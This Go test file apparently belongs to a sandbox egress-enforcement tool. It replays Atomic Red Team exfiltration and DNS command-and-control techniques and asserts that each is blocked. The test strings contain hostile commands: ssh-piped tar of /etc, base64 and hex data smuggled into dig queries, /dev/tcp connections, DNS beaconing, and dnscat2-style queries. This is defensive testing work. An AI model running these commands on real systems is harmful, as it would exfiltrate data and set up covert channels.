package egress_test

import (
	"bufio"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/watcherhq/watcher/internal/audit"
	"github.com/watcherhq/watcher/internal/enforce/enforcetest"
	"github.com/watcherhq/watcher/internal/testkit/e2etest"
)

// corpusDir finds ../shared/corpus beside the repository root.
func corpusDir(t *testing.T) string {
	t.Helper()
	dir, err := os.Getwd()
	if err != nil {
		t.Fatal(err)
	}
	for {
		if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
			break
		}
		parent := filepath.Dir(dir)
		if parent == dir {
			t.Skip("repository root not found")
		}
		dir = parent
	}
	c := filepath.Join(dir, "..", "shared", "corpus")
	if _, err := os.Stat(filepath.Join(c, "atomic", "summary.tsv")); err != nil {
		t.Skipf("evaluation corpus absent (%s): the Atomic Red Team rows cannot be read", c)
	}
	return c
}

// atomicRow is one row of atomic/summary.tsv.
type atomicRow struct {
	technique, testNo, name, expectedChecks, expectedAction, command string
}

func readAtomicRows(t *testing.T, techniques ...string) []atomicRow {
	t.Helper()
	f, err := os.Open(filepath.Join(corpusDir(t), "atomic", "summary.tsv"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	want := map[string]bool{}
	for _, tq := range techniques {
		want[tq] = true
	}
	var rows []atomicRow
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		c := strings.Split(sc.Text(), "\t")
		if len(c) < 12 || !want[c[1]] {
			continue
		}
		rows = append(rows, atomicRow{technique: c[1], testNo: c[2], name: c[3], expectedChecks: c[8], expectedAction: c[9], command: c[11]})
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	if len(rows) == 0 {
		t.Fatal("no DNS rows in summary.tsv")
	}
	return rows
}

// shell runs a bash script in cgroup cg.
func shell(t *testing.T, cg, script string) (string, error) {
	t.Helper()
	cmd := enforcetest.Command(t, cg, "bash", "-c", script)
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// blockedBy waits for the proxy's decision blocking name for sandbox sb.
func (f *fixture) blockedByProxy(t *testing.T, name string) audit.Event {
	t.Helper()
	return f.dnsEvents.wait(t, "proxy block of "+name, func(ev audit.Event) bool {
		return ev.DNS != nil && strings.EqualFold(ev.DNS.Name, name) && ev.Verdict == audit.VerdictDenied && ev.Sandbox.Name == "sb"
	})
}

// atomicCases adapts each DNS-related Atomic Red Team row to the test
// network: off-allowlist names come from the test upstream (which would
// answer them), "8.8.8.8" becomes an address on the test link where no
// server runs, the google.com parent becomes cdn.test (allowed by the
// policy, so the encoded-label check must fire; a parent of its own, as the
// proxy cuts off a domain that carried encoded names), 127.0.0.1 as DNS
// server stays (the kernel redirects it), Windows-only PowerShell becomes
// the equivalent dig/bash loop, counts are cut (1000 -> 30 queries) to keep
// the test short. Each returns an error when the technique was NOT stopped
// (or, for negative controls, when it was).
func atomicCases(f *fixture) map[string]func(t *testing.T) error {
	n := f.net
	digAt := func(server string) string {
		return "dig @" + server + " -p 53 +tries=1 +time=3 "
	}
	expectAllNX := func(t *testing.T, script string, want int) error {
		out, _ := shell(t, f.sandbox, script)
		nx := strings.Count(out, "status: NXDOMAIN")
		if nx != want || strings.Contains(out, "status: NOERROR") {
			return fmt.Errorf("%d of %d queries answered NXDOMAIN:\n%s", nx, want, out)
		}
		return nil
	}
	httpServerControl := func(t *testing.T, port int) error {
		// A listening socket and inbound connections: no hook of ours
		// applies (expected action "-"). The server must work.
		cmd := enforcetest.Command(t, f.sandbox, "python3", "-m", "http.server", fmt.Sprint(port), "--bind", "127.0.0.1", "--directory", t.TempDir())
		if err := cmd.Start(); err != nil {
			t.Skipf("python3 not runnable: %v", err)
		}
		defer func() {
			cmd.Process.Signal(syscall.SIGTERM)
			cmd.Wait()
		}()
		var err error
		for range 50 {
			var resp *http.Response
			if resp, err = http.Get(fmt.Sprintf("http://127.0.0.1:%d/", port)); err == nil {
				resp.Body.Close()
				return nil
			}
			time.Sleep(100 * time.Millisecond)
		}
		return fmt.Errorf("http server in the sandbox unreachable: %v", err)
	}
	return map[string]func(t *testing.T) error{
		// ssh target.example.com "(cd /etc && tar -zcvf - *)": the name
		// resolves through the system resolver (resolv.conf untouched),
		// whose query the kernel sends to the proxy: NXDOMAIN, no TCP.
		// Then ssh to the upstream's address directly: EPERM.
		"T1048#1": func(t *testing.T) error {
			out, err := shell(t, f.sandbox, `ssh -o BatchMode=yes -o ConnectTimeout=3 -o StrictHostKeyChecking=no target.example.test "(cd /etc && tar -zcvf - *)" > /dev/null`)
			if err == nil || !strings.Contains(out, "Could not resolve hostname") {
				return fmt.Errorf("ssh by name not stopped at resolution (%v): %s", err, out)
			}
			f.blockedByProxy(t, "target.example.test.")
			out, err = shell(t, f.sandbox, "ssh -o BatchMode=yes -o ConnectTimeout=3 -o StrictHostKeyChecking=no "+n.forbidden.String()+" true")
			if err == nil || !strings.Contains(out, "Operation not permitted") {
				return fmt.Errorf("ssh by address not refused (%v): %s", err, out)
			}
			return nil
		},
		// tar | openssl | ssh atomic@target.example.com: same door.
		"T1048#2": func(t *testing.T) error {
			out, err := shell(t, f.sandbox, `tar czpf - /etc/hostname 2>/dev/null | ssh -o BatchMode=yes -o ConnectTimeout=3 atomic@target.example.test 'cat > /tmp/etc.tar.gz'`)
			if err == nil || !strings.Contains(out, "Could not resolve hostname") {
				return fmt.Errorf("ssh exfiltration not stopped (%v): %s", err, out)
			}
			return nil
		},
		// DNSExfiltrator over DoH to Google (Windows): DoH to a resolver at a
		// hard-coded address; the connection itself is refused.
		"T1048#3": func(t *testing.T) error {
			out, err := shell(t, f.sandbox, "exec 3<>/dev/tcp/"+n.doh.String()+"/443")
			if err == nil || !strings.Contains(out, "Operation not permitted") {
				return fmt.Errorf("DoH connection not refused (%v): %s", err, out)
			}
			return nil
		},
		// dig @8.8.8.8 -p 53 $(echo "this is a secret info" | base64).google.com
		"T1048#4": func(t *testing.T) error {
			script := digAt(n.dead.String()) + `$(echo "this is a secret info" | base64).cdn.test`
			out, _ := shell(t, f.sandbox, script)
			// The proxy refuses the name ('=' is no hostname byte: REFUSED
			// with an Extended DNS Error "Blocked"), answering as the
			// address the query named.
			status, from := digResult(out)
			if (status != "NXDOMAIN" && status != "REFUSED") || from != n.dead.String()+"#53" || !strings.Contains(out, "EDE: 15 (Blocked)") {
				return fmt.Errorf("encoded query not stopped by the proxy: %s", out)
			}
			// Outside, the upstream answers the same name.
			out, _ = shell(t, f.outside, digAt(n.dnsSrv.String())+`$(echo "this is a secret info" | base64).cdn.test`)
			if status, _ := digResult(out); status != "NOERROR" {
				return fmt.Errorf("control query outside: %s", out)
			}
			return nil
		},
		// python -m SimpleHTTPServer 1337 on the victim: a negative control.
		"T1048.003#1": func(t *testing.T) error { return httpServerControl(t, e2etest.FreePort(t)) },
		// xxd -p input_file | for data in ...; do dig $data.domain; done
		"T1048.003#3": func(t *testing.T) error {
			file := filepath.Join(t.TempDir(), "input_file")
			if err := os.WriteFile(file, []byte("this file will be exfiltrated over DNS, 60 hex digits per query\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			return expectAllNX(t, "xxd -p "+file+" | while read data; do "+digAt(n.dead.String())+"$data.cdn.test; done", 3)
		},
		// python3 -m http.server 9090: listening socket only, negative control.
		"T1048.003#8": func(t *testing.T) error { return httpServerControl(t, e2etest.FreePort(t)) },
		// DNS Large Query Volume: TXT atomicredteam-<rand>.127.0.0.1.nip.io.
		"T1071.004#1": func(t *testing.T) error {
			return expectAllNX(t, `for i in $(seq 30); do `+digAt("127.0.0.1")+`TXT atomicredteam-$RANDOM.127.0.0.1.nip.io; done`, 30)
		},
		// DNS Regular Beaconing: atomicredteam.<rand>.127.0.0.1.nip.io TXT.
		"T1071.004#2": func(t *testing.T) error {
			return expectAllNX(t, `for i in 1 2 3; do `+digAt("127.0.0.1")+`TXT atomicredteam.$RANDOM.127.0.0.1.nip.io; sleep 0.2; done`, 3)
		},
		// DNS Long Domain Query: names growing to ~250 characters.
		"T1071.004#3": func(t *testing.T) error {
			return expectAllNX(t, `l=atomicredteamatomicredteamatomicredteamatomicredteamatomicredte; n=$l.127.0.0.1.nip.io
for i in 1 2 3; do `+digAt("127.0.0.1")+`TXT $n; n=$l.$n; done`, 3)
		},
		// DNS C2 (dnscat2 to example.com via 127.0.0.1), and the script's
		// download from raw.githubusercontent.com.
		"T1071.004#4": func(t *testing.T) error {
			if err := expectAllNX(t, digAt("127.0.0.1")+`TXT 3a3b01000000000000000000000000000000000000.example.com; `+
				digAt("127.0.0.1")+`CNAME dnscat.a1b2c3d4e5f60718293a4b5c6d7e8f90.example.com`, 2); err != nil {
				return err
			}
			out, err := shell(t, f.sandbox, "exec 3<>/dev/tcp/raw.githubusercontent.com/443")
			if err == nil {
				return fmt.Errorf("download host reachable: %s", out)
			}
			f.blockedByProxy(t, "raw.githubusercontent.com.")
			return nil
		},
	}
}

func testAtomic(t *testing.T, f *fixture) {
	rows := readAtomicRows(t, "T1048", "T1048.003", "T1071.004")
	for _, tool := range []string{"ssh", "xxd", "bash"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("%s is not installed (CI installs openssh-client, xxd)", tool)
		}
	}
	cases := atomicCases(f)
	for _, row := range rows {
		key := row.technique + "#" + row.testNo
		t.Run(key, func(t *testing.T) {
			c, ok := cases[key]
			if !ok {
				t.Fatalf("no adaptation for %s %q (expected %s/%s)", key, row.name, row.expectedChecks, row.expectedAction)
			}
			if err := c(t); err != nil {
				t.Errorf("%s %q (expected %s, %s): %v", key, row.name, row.expectedChecks, row.expectedAction, err)
			}
		})
	}
}
